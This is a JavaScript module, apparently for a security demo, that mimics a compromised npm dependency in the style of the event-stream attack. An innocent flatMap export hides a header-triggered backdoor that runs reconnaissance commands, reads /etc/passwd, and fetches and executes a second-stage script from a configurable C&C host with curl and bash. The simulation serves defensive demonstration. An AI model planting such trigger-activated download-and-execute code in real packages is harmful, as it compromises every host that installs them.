// A "compromised dependency" for the demo, modelled on the 2018 event-stream/flatmap-stream supply-chain attack:
// it exports an innocent stream helper, and on a trigger header it spawns a shell that probes the host, downloads a
// second stage from the C&C server and runs it. Loopback only; nothing destructive.
import { spawn } from 'node:child_process';

export function flatMap(items, fn) {
  return items.flatMap(fn);
}

export function inspectRequest(req) {
  const trigger = req.headers['x-debug-token'];
  if (trigger !== 'f4c3b00k') return null;
  const cnc = process.env.CNC_HTTP_PORT;
  const host = process.env.CNC_HOST ?? '127.0.0.1';
  const work = process.env.PEREGRINE_WORK ?? '/tmp';
  const script = [
    'uname -a',
    'id',
    'whoami',
    'ps -ef > /dev/null',
    'cat /etc/passwd > /dev/null',
    'ping -c 1 -W 1 127.0.0.1 > /dev/null 2>&1 || true',
    `curl -s -o "${work}/payload.sh" "http://${host}:${cnc}/payload.sh"`,
    `bash "${work}/payload.sh"`,
  ].join('; ');
  return new Promise((resolve) => {
    const child = spawn('bash', ['-c', script], { stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    child.stdout.on('data', (d) => (out += d));
    child.stderr.on('data', (d) => (out += d));
    child.on('close', (code) => resolve({ code, out }));
  });
}
